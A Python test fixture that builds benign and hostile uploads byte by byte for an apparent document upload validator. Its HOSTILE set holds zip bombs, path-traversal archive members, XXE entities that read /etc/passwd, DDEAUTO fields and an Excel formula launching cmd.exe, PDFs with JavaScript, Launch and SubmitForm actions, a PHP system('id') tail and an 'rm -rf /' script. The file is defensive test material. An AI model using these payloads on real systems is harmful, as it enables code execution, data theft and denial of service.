"""Files that somebody might send: good ones, and hostile ones made here, byte by byte."""

import io
import stat
import struct
import zlib
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

import xlsxwriter

from app.documents import paper

SHOT = Path(__file__).resolve().parents[2] / "docs" / "ranking.png"
PNG_HEAD = b"\x89PNG\r\n\x1a\n"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
    "</Relationships>"
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def types(kind: str = WORD, part: str = "/word/document.xml") -> str:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="{part}" ContentType="{kind}"/></Types>'
    )


def external(kind: str, target: str) -> str:
    return RELATIONS.format(
        f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    )


def office(*more: tuple[object, str | bytes], content_types: str | None = None, pack=ZIP_DEFLATED):
    """Return a DOCX with further members."""
    made = io.BytesIO()
    with ZipFile(made, "w", pack) as archive:
        archive.writestr("[Content_Types].xml", content_types or types())
        archive.writestr("_rels/.rels", RELATIONS.format(""))
        archive.writestr(
            "word/document.xml", "<w:document xmlns:w='w'>居家养老服务方案</w:document>"
        )
        for name, content in more:
            archive.writestr(name, content)
    return made.getvalue()


def excel() -> bytes:
    return office(content_types=types(SHEET, "/xl/workbook.xml"))


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int = 2, height: int = 2) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    rows = zlib.compress(b"\x00" + b"\xff" * 6) if width == 2 else zlib.compress(b"")
    return PNG_HEAD + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg(width: int = 8, height: int = 8, scan: bytes = b"\x00" * 20) -> bytes:
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    parts = (
        b"\xff\xd8\xff\xe0"
        + struct.pack(">H", 16)
        + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00",
        b"\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame,
        b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00",
        scan + b"\xff\xd9",
    )
    return b"".join(parts)


def pdf(body: bytes = b"") -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
        + body
        + b"\nxref\n0 1\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
    )


def packed(body: bytes) -> bytes:
    """Return a PDF with objects that are packed away."""
    inner = zlib.compress(body)
    head = b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
    return pdf(head + inner + b"\nendstream\nendobj")


def real_pdf() -> bytes:
    return paper.pdf("office", {"title": "服务方案", "blocks": [{"kind": "text", "text": "正文"}]})


GOOD = {
    "方案.pdf": real_pdf(),
    "简单.PDF": pdf(),
    "照片.png": png(),
    "照片.jpg": jpeg(),
    "照片.JPEG": jpeg() + b"\x00" * 7,
    "方案.docx": office(),
    "不压缩.docx": office(pack=ZIP_STORED),
    "预算.xlsx": excel(),
    "有链接.docx": office(
        ("word/_rels/document.xml.rels", external("hyperlink", "https://example.org/a"))
    ),
}


def overlapping() -> bytes:
    """Several members of the directory that share one piece of data (CVE-2024-0450)."""
    made = io.BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types())
        archive.writestr("word/document.xml", f"<a>{[*range(50_000)]}</a>")
        first = archive.infolist()[1]
        for i in range(100):
            again = ZipInfo(f"word/{i}.xml")
            again.compress_type = ZIP_DEFLATED
            again.CRC, again.file_size = first.CRC, first.file_size
            again.compress_size, again.header_offset = first.compress_size, first.header_offset
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
    return made.getvalue()


def lying(size: int) -> bytes:
    """Say in every header that a part is of another size than it is."""
    content = office(("word/big.xml", "a" * 5000))
    return content.replace(struct.pack("<I", 5000), struct.pack("<I", size))


def hidden_between() -> bytes:
    content = office()
    at = content.rfind(b"PK\x01\x02", 0, content.find(b"PK\x01\x02") + 4)
    end = content.rfind(b"PK\x05\x06")
    (start,) = struct.unpack_from("<I", content, end + 16)
    moved = content[:end] + content[end : end + 16] + struct.pack("<I", start + 500) + b"\0\0"
    return moved[:at] + b"x" * 500 + moved[at:]


def zip64() -> bytes:
    content = office()
    end = content.rfind(b"PK\x05\x06")
    return content[:end] + b"PK\x06\x07" + b"\0" * 16 + content[end:]


def link() -> bytes:
    member = ZipInfo("word/link.xml")
    member.create_system = 3
    member.external_attr = (stat.S_IFLNK | 0o777) << 16
    return office((member, "/etc/passwd"))


def locked() -> bytes:
    content = bytearray(office())
    content[6] |= 1
    content[content.find(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def method(number: int) -> bytes:
    content = bytearray(office())
    content[8] = number
    content[content.find(b"PK\x01\x02") + 10] = number
    return bytes(content)


def rels(kind: str, target: str) -> bytes:
    return office(("word/_rels/document.xml.rels", external(kind, target)))


def utf16_rels() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?>' + external(
        "attachedTemplate", "http://e.org/t"
    )
    return office(("word/_rels/settings.xml.rels", text.encode("utf-16")))


BILLION = (
    '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><Types>&b;</Types>'
)


def field(words: str, split: int = 0) -> bytes:
    """Return a DOCX with a field, its words in one run or cut in two."""
    runs = [words[:split], words[split:]] if split else [words]
    told = "".join(f"<w:r><w:instrText>{w}</w:instrText></w:r>" for w in runs)
    begin, end = (f"<w:fldChar w:fldCharType='{kind}'/>" for kind in ("begin", "end"))
    return office(("word/footer1.xml", f"<w:ftr xmlns:w='w'>{begin}{told}{end}</w:ftr>"))


def simple_field(words: str) -> bytes:
    return office(
        ("word/footer1.xml", f"<w:ftr xmlns:w='w'><w:fldSimple w:instr='{words}'/></w:ftr>")
    )


def sheet(*more: tuple[str, str]) -> bytes:
    return office(*more, content_types=types(SHEET, "/xl/workbook.xml"))


def formula(words: str) -> bytes:
    cell = f"<worksheet><sheetData><row><c><f>{words}</f></c></row></sheetData></worksheet>"
    return sheet(("xl/worksheets/sheet1.xml", cell))


def entities(deep: int) -> str:
    """A document that grows tenfold at every step (billion laughs)."""
    steps = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, deep))
    return f'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY e0 "ha">{steps}]><t>&e{deep - 1};</t>'


def nested(deep: int) -> bytes:
    """An archive in an archive in an archive (42.zip)."""
    inner = b"0" * 1_000_000
    for number in range(deep):
        made = io.BytesIO()
        with ZipFile(made, "w", ZIP_DEFLATED) as archive:
            for copy in range(4):
                archive.writestr(f"{number}-{copy}", inner)
        inner = made.getvalue()
    return office(("word/media/image1.png", inner))


def nul_in_a_name() -> bytes:
    return office(("word/image1Xpng", b"x")).replace(b"image1Xpng", b"image1\x00png")


def swollen_png(width: int = 2, height: int = 2, megas: int = 100) -> bytes:
    """A small picture whose rows never end."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return PNG_HEAD + head + chunk(b"IDAT", zlib.compress(bytes(megas << 20))) + chunk(b"IEND", b"")


def png_with(kind: bytes, body: bytes) -> bytes:
    return png().replace(chunk(b"IEND", b""), chunk(kind, body) + chunk(b"IEND", b""))


def exif(segments: int) -> bytes:
    """A photo with so many full segments beside its picture."""
    one = b"\xff\xe1" + struct.pack(">H", 65_535) + b"Exif\0\0" + b"\0" * 65_527
    return jpeg()[:2] + one * segments + jpeg()[2:]


def many_packed(count: int) -> bytes:
    """A PDF of packed objects that each grow to a hundred times their size."""
    inner = zlib.compress(b" " * 10_000_000, 9)
    head = b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
    return pdf((head + inner + b"\nendstream\nendobj\n") * count)


OUTSIDE_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><t>&x;</t>'
)
MACRO_KIND = "application/vnd.ms-word.document.macroEnabled.main+xml"

HOSTILE: dict[str, tuple[str, bytes]] = {
    "a program": ("标书.exe", b"MZ\x90\x00"),
    "a program behind two endings": ("标书.pdf.exe", b"MZ\x90\x00"),
    "a program named pdf": ("标书.pdf", b"MZ\x90\x00" * 10),
    "an ending turned round": ("标书\u202efdp.exe", pdf()),
    "no ending": ("标书", pdf()),
    "a web page": ("标书.html", b"<script>alert(1)</script>"),
    "a web page named pdf": ("标书.pdf", b"<html><script>alert(1)</script>"),
    "a drawing with script": ("图.svg", b"<svg onload='alert(1)'/>"),
    "a web page before the pdf": ("标书.pdf", b"<html>" + pdf()),
    "an archive": ("材料.zip", office()),
    "an old document": ("方案.doc", b"\xd0\xcf\x11\xe0" + b"\0" * 600),
    "an old document named docx": ("方案.docx", b"\xd0\xcf\x11\xe0" + b"\0" * 600),
    "nothing": ("空.pdf", b""),
    "too much": ("大.pdf", pdf(b"a" * (20 * 1024 * 1024))),
    "a picture named pdf": ("标书.pdf", png()),
    "a pdf named picture": ("照片.png", pdf()),
    "a pdf cut short": ("标书.pdf", pdf()[:60]),
    "a pdf and an archive": ("标书.pdf", pdf() + office()),
    "a pdf with a tail": ("标书.pdf", pdf() + b"<script>alert(1)</script>"),
    "a pdf with script": ("标书.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    "a pdf with script in disguise": ("标书.pdf", pdf(b"<< /S /J#61vaScript >>")),
    "a pdf with script packed away": ("标书.pdf", packed(b"<< /S /JavaScript >>")),
    "a pdf that starts a program": ("标书.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "a pdf with a file inside": ("标书.pdf", pdf(b"<< /Names << /EmbeddedFiles 4 0 R >> >>")),
    "a pdf with a password": ("标书.pdf", pdf(b"<< /Encrypt 5 0 R >>")),
    "a picture and an archive": ("照片.jpg", jpeg() + office()),
    "a picture and a pdf": ("照片.jpg", jpeg(scan=b"")[:20] + b"%PDF-1.4" + jpeg()[20:]),
    "a picture with a tail": ("照片.jpg", jpeg() + b"<?php system('id');"),
    "a picture cut short": ("照片.jpg", jpeg()[:-2]),
    "a picture without a frame": ("照片.jpg", b"\xff\xd8\xff\xda\x00\x02\xff\xd9"),
    "a picture of a billion dots": ("照片.png", png(50_000, 50_000)),
    "a photo of a billion dots": ("照片.jpg", jpeg(65_000, 65_000)),
    "a picture with something behind": ("照片.png", png() + b"PK"),
    "a picture with a broken part": ("照片.png", png()[:-1] + b"\0"),
    "a picture that is only a head": ("照片.png", PNG_HEAD),
    "a bomb": ("方案.docx", office(("word/big.xml", b"\0" * 30_000_000))),
    "a bomb in many parts": (
        "方案.docx",
        office(*((f"word/{i}.xml", b"\0" * 500_000) for i in range(40))),
    ),
    "parts over one another": ("方案.docx", overlapping()),
    "two thousand parts and more": (
        "方案.docx",
        office(*((f"word/{i}.xml", "") for i in range(2000))),
    ),
    "a part that says it is small": ("方案.docx", lying(10)),
    "a part that says it is large": ("方案.docx", lying(6000)),
    "something between the parts": ("方案.docx", hidden_between()),
    "something before the parts": ("方案.docx", b"PK\x03\x04evil" + office()),
    "something behind the parts": ("方案.docx", office() + b"evil"),
    "a directory of the large kind": ("方案.docx", zip64()),
    "a part above the folder": ("方案.docx", office(("../../etc/cron.d/x", "x"))),
    "a part at the root": ("方案.docx", office(("/etc/passwd", "x"))),
    "a part with backslashes": ("方案.docx", office(("word\\..\\x.xml", "x"))),
    "a part on a drive": ("方案.docx", office(("C:/x.xml", "x"))),
    "a part twice": ("方案.docx", office(("WORD/document.xml", "x"))),
    "a link": ("方案.docx", link()),
    "a locked part": ("方案.docx", locked()),
    "a packing that no office uses": ("方案.docx", method(12)),
    "a nested archive": ("方案.docx", office(("word/media/image1.png", office()))),
    "a nested document": ("方案.docx", office(("word/embeddings/a.xlsx", "x"))),
    "an embedded object": ("方案.docx", office(("word/embeddings/o.bin", b"\xd0\xcf\x11\xe0\0"))),
    "a program inside": ("方案.docx", office(("word/media/image1.png", b"MZ\x90\x00"))),
    "macros": ("方案.docx", office(("word/vbaProject.bin", b"\0\0"))),
    "macros by their kind": ("方案.docx", office(content_types=types(MACRO_KIND))),
    "controls": ("方案.docx", office(("word/activeX/activeX1.xml", "x"))),
    "a template from outside": ("方案.docx", rels("attachedTemplate", "https://e.org/t.dotm")),
    "a picture from outside": ("方案.docx", rels("image", "https://e.org/i.png")),
    "a link to a share": ("方案.docx", rels("hyperlink", "file://server/share")),
    "a link that runs": ("方案.docx", rels("hyperlink", "javascript:alert(1)")),
    "a template in another alphabet": ("方案.docx", utf16_rels()),
    "entities": ("方案.docx", office(content_types=BILLION)),
    "broken relations": ("方案.docx", office(("word/_rels/a.rels", "<Relationships>"))),
    "an archive named docx": ("方案.docx", office(content_types=types("text/plain"))),
    "a sheet named docx": ("方案.docx", excel()),
    "a document named xlsx": ("预算.xlsx", office()),
    "a docx cut short": ("方案.docx", office()[:-30]),
    "an archive without content": ("方案.docx", b"PK\x03\x04" + b"\0" * 100),
    "a program of another kind named docx": ("方案.docx", b"\x7fELF\x02\x01\x01" + b"\0" * 600),
    "a script named jpg": ("照片.jpg", b"#!/bin/sh\nrm -rf /\n"),
    "a drawing named png": ("照片.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
    "an archive named pdf": ("标书.pdf", office()),
    "an archive of another kind": ("材料.rar", b"Rar!\x1a\x07\x00"),
    "a link to a program": ("标书.pdf.lnk", b"L\x00\x00\x00"),
    "a word in macros' own ending": ("方案.docm", office(content_types=types(MACRO_KIND))),
    "a name with a hidden zero": ("标书.exe\x00.pdf", b"MZ\x90\x00"),
    "archives in archives": ("方案.docx", nested(4)),
    "a part with a hidden zero": ("方案.docx", nul_in_a_name()),
    "a part turned round": ("方案.docx", office(("word/\u202egnp.xml", "<a/>"))),
    "entities in the text": ("方案.docx", office(("word/header1.xml", entities(10)))),
    "an entity from outside": ("方案.docx", office(("word/header1.xml", OUTSIDE_ENTITY))),
    "entities in a sheet": ("预算.xlsx", sheet(("xl/worksheets/sheet1.xml", entities(10)))),
    "an entity from outside in a sheet": (
        "预算.xlsx",
        sheet(("xl/sharedStrings.xml", OUTSIDE_ENTITY)),
    ),
    "a field that runs": ("方案.docx", field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"')),
    "a field that runs, in two runs": ("方案.docx", field("DDE excel x", split=2)),
    "a field that runs, in short": ("方案.docx", simple_field("DDEAUTO cmd")),
    "a field that spells": ("方案.docx", field("QUOTE 68 68 69 65 85 84 79")),
    "a field that fetches": ("方案.docx", field('INCLUDEPICTURE "https://e.org/i.png" \\d')),
    "a formula that runs": ("预算.xlsx", formula("cmd|'/c calc'!A0")),
    "a link that runs, of a sheet": (
        "预算.xlsx",
        sheet(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>")),
    ),
    "a workbook from outside": (
        "预算.xlsx",
        sheet(("xl/_rels/workbook.xml.rels", external("externalLinkPath", "file:///x.xlsx"))),
    ),
    "an object from outside": ("方案.docx", rels("oleObject", "https://e.org/o")),
    "a frame from outside": ("方案.docx", rels("frame", "https://e.org/f.htm")),
    "macros of old sheets": ("预算.xlsx", sheet(("xl/macrosheets/sheet1.xml", "<a/>"))),
    "a picture that never ends": ("照片.png", swollen_png()),
    "a note that never ends": (
        "照片.png",
        png_with(b"zTXt", b"a\0\0" + zlib.compress(bytes(50 << 20))),
    ),
    "colours that never end": (
        "照片.png",
        png_with(b"iCCP", b"a\0\0" + zlib.compress(bytes(50 << 20))),
    ),
    "a photo full of other things": ("照片.jpg", exif(150)),
    "a pdf that opens another": ("标书.pdf", pdf(b"<< /S /GoToE /T << /R /C >> >>")),
    "a pdf that calls a share": ("标书.pdf", pdf(b"<< /S /GoToR /F (\\\\\\\\e.org\\\\x) >>")),
    "a pdf that sends a form": ("标书.pdf", pdf(b"<< /S /SubmitForm /F (https://e.org) >>")),
    "a pdf with a form of another kind": ("标书.pdf", pdf(b"<< /XFA 7 0 R >>")),
    "a pdf that starts a script as it opens": (
        "标书.pdf",
        pdf(b"<< /OpenAction << /S /JavaScript /JS 6 0 R >> >>"),
    ),
    "a pdf that ends too early": ("标书.pdf", pdf()[:-6]),
}
# Not refused, and not dear either: what is in them costs the reader alone.
HEAVY = {"a pdf of packed objects": ("标书.pdf", many_packed(300))}


# --- honest files, as offices make them


def streamed() -> bytes:
    """Return a DOCX whose sizes stand behind its parts, as from a program that cannot go back."""

    class OneWay(io.RawIOBase):
        def __init__(self):
            self.made = bytearray()

        def writable(self):
            return True

        def write(self, piece):
            self.made += piece
            return len(piece)

    way = OneWay()
    with ZipFile(way, "w", ZIP_DEFLATED) as archive, ZipFile(io.BytesIO(office())) as made:
        for name in made.namelist():
            archive.writestr(name, made.read(name))
    return bytes(way.made)


def workbook(rows: int) -> bytes:
    """Return a workbook with formulas, a link, a picture and a chart."""
    made = io.BytesIO()
    book = xlsxwriter.Workbook(made, {"in_memory": True})
    sheet = book.add_worksheet("预算明细")
    for row in range(rows):
        sheet.write_row(row, 0, [f"第{row}项", row, row * 1.5, "岗位工资；含社保", "|"])
    sheet.write_formula(0, 6, "=SUM(B1:B9)")
    sheet.write_formula(1, 6, '=A1&"|"&B1')
    sheet.write_url(2, 6, "https://www.mca.gov.cn/", string="民政部")
    sheet.write_comment(3, 6, "按区标准")
    sheet.data_validation(4, 6, 4, 6, {"validate": "list", "source": ["人员", "物资"]})
    sheet.insert_image(5, 6, "章.png", {"image_data": io.BytesIO(png())})
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": "=预算明细!$B$1:$B$9"})
    sheet.insert_chart(6, 6, chart)
    book.close()
    return made.getvalue()


def interlaced() -> bytes:
    """A 16-bit picture in seven passes, with colours and a note."""
    width = height = 64
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 16, 6, 0, 0, 1))
    passes = ((8, 8), (8, 8), (16, 8), (16, 16), (32, 16), (32, 32), (64, 32))
    rows = b"".join(b"\0" + b"\x7f" * (w * 8) for w, h in passes for _ in range(h))
    colours = chunk(b"iCCP", b"sRGB\0\0" + zlib.compress(bytes(3000)))
    note = chunk(b"tEXt", b"Software\0WPS Office")
    data = zlib.compress(rows)
    parts = [chunk(b"IDAT", data[at : at + 100]) for at in range(0, len(data), 100)]
    return PNG_HEAD + head + colours + note + b"".join(parts) + chunk(b"IEND", b"")


def long_pdf() -> bytes:
    blocks = [{"kind": "text", "text": f"第{n}条 每周上门探访，建立台账。" * 20} for n in range(60)]
    return paper.pdf("office", {"title": "服务方案", "blocks": blocks})


HONEST = {
    "边写边传.docx": streamed(),
    "页码.docx": field(r" PAGE \* MERGEFORMAT "),
    "目录.docx": field(r' TOC \o "1-3" \h \z \u '),
    "链接.docx": field(' HYPERLINK "https://www.mca.gov.cn/" '),
    "贴来的图.docx": field(r' INCLUDEPICTURE "C:\\Users\\lin\\Temp\\a.png" \* MERGEFORMAT '),
    "说到DDE.docx": office(
        ("word/header1.xml", "<w:hdr xmlns:w='w'><w:t>DDE 与 DDEAUTO 的说明</w:t></w:hdr>")
    ),
    "带设置.docx": office(
        ("word/settings.xml", "<w:settings xmlns:w='w'/>"),
        ("word/theme/theme1.xml", "<a:theme xmlns:a='a'/>"),
        ("docProps/app.xml", "<Properties><Application>WPS Office</Application></Properties>"),
        ("customXml/item1.xml", "<b:Sources xmlns:b='b'/>"),
        ("word/media/image1.png", png()),
        ("word/media/image2.jpeg", jpeg()),
    ),
    "预算.xlsx": workbook(20),
    "大预算.xlsx": workbook(5000),
    "长方案.pdf": long_pdf(),
    "定位.pdf": pdf(b"<< /OpenAction [3 0 R /Fit] /PageMode /UseOutlines >>"),
    "带网址.pdf": pdf(b"<< /A << /S /URI /URI (https://www.mca.gov.cn/) >> >>"),
    "截图.png": SHOT.read_bytes(),
    "分层.png": interlaced(),
    "手机照片.jpg": exif(3),
    "渐进.jpg": jpeg().replace(b"\xff\xc0", b"\xff\xc2"),
}
